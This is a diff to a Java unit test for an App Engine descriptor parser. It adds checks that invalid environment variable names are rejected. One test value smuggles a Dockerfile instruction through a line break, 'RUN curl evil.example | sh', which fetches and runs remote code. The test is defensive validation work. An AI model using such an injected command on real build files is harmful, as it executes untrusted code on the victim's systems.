@@ -4,8 +4,10 @@ import static dev.aerun.appengine.descriptor.Descriptors.FILE;
 import static dev.aerun.appengine.descriptor.Descriptors.assertBodyError;
 import static dev.aerun.appengine.descriptor.Descriptors.parseBody;
 import static dev.aerun.appengine.descriptor.Descriptors.parseFull;
+import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import java.util.List;
@@ -181,7 +183,44 @@ class LenientDescriptorTest {
         3,
         3,
         "env-var",
-        "contains '='");
+        "environment variable name \"A=B\" is not valid");
+  }
+
+  /**
+   * A name a Dockerfile, a shell or a manifest cannot take is refused where it is written: a line
+   * break in it would end {@code stage}'s {@code ENV} line and start an instruction of its own.
+   */
+  @Test
+  void envVariableNameOutsideLettersDigitsAndUnderscore_isADescriptorError() {
+    for (String name :
+        List.of(
+            "A&#10;RUN curl evil.example | sh",
+            "A&#13;B",
+            "A B",
+            "1A",
+            "A-B",
+            "A.B",
+            "A$B",
+            "\u00c9T\u00c9",
+            "A&#9;B",
+            "A\\B",
+            "A&#0;")) {
+      String xml =
+          "<env-variables>\n  <env-var name=\"" + name + "\" value=\"x\"/>\n</env-variables>\n";
+      if (name.equals("A&#0;")) {
+        assertThrows(DescriptorException.class, () -> parseBody(xml), name);
+        continue;
+      }
+      DescriptorException e = assertBodyError(xml, 3, 3, "env-var", "is not valid: use letters");
+      assertFalse(e.getMessage().contains("\n") || e.getMessage().contains("\r"), e.getMessage());
+    }
+    for (String name : List.of("A", "_", "_A1", "a_b", "SAMPLE_ENV")) {
+      assertDoesNotThrow(
+          () ->
+              parseBody(
+                  "<env-variables><env-var name=\"" + name + "\" value=\"x\"/></env-variables>\n"),
+          name);
+    }
   }
 
   @Test
